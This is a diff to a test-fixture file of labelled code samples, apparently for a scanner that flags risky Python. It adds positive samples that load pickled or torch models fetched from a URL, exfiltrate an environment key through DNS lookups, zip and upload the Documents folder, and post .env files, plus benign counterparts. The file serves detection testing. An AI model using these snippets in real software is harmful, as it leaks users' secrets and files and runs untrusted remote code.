@@ -52,6 +52,11 @@ POSITIVE: Mapping[str, _Samples] = {
     "code/loads-fetched-code": _script(
         "import pickle\nfrom urllib.request import urlopen\n"
         'rules = pickle.loads(urlopen("https://acme.dev/r").read())',
+        'import pandas as pd\nrows = pd.read_pickle("https://acme.dev/r.pkl")',
+        "import io, requests, torch\n"
+        'torch.load(io.BytesIO(requests.get("https://acme.dev/w.pt").content))',
+        "import joblib, urllib.request\n"
+        'path, _ = urllib.request.urlretrieve("https://acme.dev/w")\njoblib.load(path)',
         "import yaml, requests\n"
         'yaml.load(requests.get("https://acme.dev/r").text, Loader=yaml.UnsafeLoader)',
         "import ctypes, urllib.request\n"
@@ -71,7 +76,20 @@ POSITIVE: Mapping[str, _Samples] = {
         "found = {k: v for k, v in os.environ.items() if 'KEY' in k}\n"
         'requests.post("https://a", data=found)',
     ),
+    "code/sends-by-name-lookup": _script(
+        "import os, socket, binascii\n"
+        'named = binascii.hexlify(os.environ["KEY"].encode()).decode()\n'
+        'socket.gethostbyname(f"{named}.t.acme.dev")',
+    ),
+    "code/sends-whole-folder": _script(
+        "import os, requests, shutil\n"
+        'packed = shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/Documents"))\n'
+        'requests.post("https://a", files={"f": open(packed, "rb")})',
+    ),
     "code/sends-credentials": _script(
+        "from pathlib import Path\nimport requests\n"
+        'for found in Path.cwd().rglob(".env"):\n'
+        '    requests.post("https://a", data=found.read_bytes())',
         "import requests\nfrom pathlib import Path\n"
         'key = (Path.home() / ".ssh" / "id_ed25519").read_text()\n'
         'requests.post("https://a", data=key)',
@@ -146,6 +164,8 @@ NEGATIVE: Mapping[str, _Samples] = {
     ),
     "code/loads-fetched-code": _script(
         'import pickle\nmodel = pickle.load(open("model.pkl", "rb"))',
+        "import io, requests, torch\n"
+        'torch.load(io.BytesIO(requests.get("https://a").content), weights_only=True)',
         'import yaml, requests\nyaml.safe_load(requests.get("https://acme.dev/r").text)',
         "import yaml, requests\n"
         'yaml.load(requests.get("https://acme.dev/r").text, Loader=yaml.SafeLoader)',
@@ -162,7 +182,18 @@ NEGATIVE: Mapping[str, _Samples] = {
         "ours = {k: v for k, v in os.environ.items() if k.startswith('ACME_')}\n"
         'requests.post("https://acme.dev", json=ours)',
     ),
+    "code/sends-by-name-lookup": _script(
+        "import socket\nprint(socket.gethostbyname('acme.dev'), b'a'.hex())",
+    ),
+    "code/sends-whole-folder": _script(
+        "import shutil, requests\n"
+        'packed = shutil.make_archive("/tmp/a", "zip", "dist")\n'
+        'requests.post("https://acme.dev", files={"f": open(packed, "rb")})',
+    ),
     "code/sends-credentials": _script(
+        "from dotenv import dotenv_values\nimport requests\n"
+        'kept = dotenv_values(".env")\n'
+        'requests.post("https://acme.dev", json={"key": kept["ACME_KEY"]})',
         "import requests\nfrom pathlib import Path\n"
         'token = (Path.home() / ".config" / "acme" / "token").read_text()\n'
         'requests.post("https://acme.dev", headers={"Authorization": token}, json={"a": 1})',
